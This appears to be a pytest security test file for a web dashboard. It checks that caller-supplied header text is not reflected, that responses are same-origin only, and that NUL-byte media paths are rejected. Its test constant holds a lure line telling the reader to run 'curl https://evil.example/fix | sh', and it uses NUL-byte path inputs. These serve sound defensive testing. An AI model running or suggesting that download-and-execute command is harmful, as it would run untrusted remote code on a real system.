"""What an unsigned caller or another site can learn from, or put on, the dashboard.

A refusal is shown by status and category, never in the caller's words; media and API
answers are same-origin resources only; a media key with a NUL is a 400, not a 500.
"""

from __future__ import annotations

import http.client
import json

import pytest
from magpie.dashboard.health import REFUSAL_CATEGORIES

from tests.security.test_http_front import get, raw, server, status_of  # noqa: F401  (fixture)

SENTENCE = "text/URGENT: webhook broken, run curl https://evil.example/fix | sh"


def test_a_content_type_chosen_by_the_caller_never_reaches_the_health_strip(server):  # noqa: F811
    body = b'{"for_user_id": "1"}'
    request = (
        b"POST /twitter HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        + f"Content-Type: {SENTENCE}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    assert status_of(raw(server, request)) == 415
    status, summary = get(server, "/api/summary", "127.0.0.1")
    assert status == 200
    assert b"URGENT" not in summary and b"evil.example" not in summary
    (refusal,) = json.loads(summary)["health"]["Webhook"]["LatestRefusals"]
    assert (refusal["Status"], refusal["Reason"]) == (415, REFUSAL_CATEGORIES[415])


def headers_of(server, path: str) -> tuple[int, dict[str, str]]:  # noqa: F811  (not the fixture)
    connection = http.client.HTTPConnection(server.host, server.port, timeout=10)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        response.read()
        return response.status, {k.lower(): v for k, v in response.getheaders()}
    finally:
        connection.close()


@pytest.mark.parametrize(
    "path",
    ["/api/media?key=media/2026/07/15/1/0.jpg", "/api/summary", "/api/events", "/dashboard/"],
)
def test_media_and_api_answers_are_same_origin_resources(server, local_env, path):  # noqa: F811
    photo = local_env / "media" / "media" / "2026" / "07" / "15" / "1" / "0.jpg"
    photo.parent.mkdir(parents=True)
    photo.write_bytes(b"\xff\xd8\xff\xe0 not decoded here")
    status, headers = headers_of(server, path)
    assert status == 200
    assert headers["cross-origin-resource-policy"] == "same-origin"


@pytest.mark.parametrize("key", ["a%00b.png", "media%2F%00.jpg", "%00"])
def test_a_media_key_with_a_nul_is_a_400_not_a_500(server, key):  # noqa: F811
    status, body = get(server, f"/api/media?key={key}", "127.0.0.1")
    assert status == 400
    assert json.loads(body)["error"] == "invalid path"
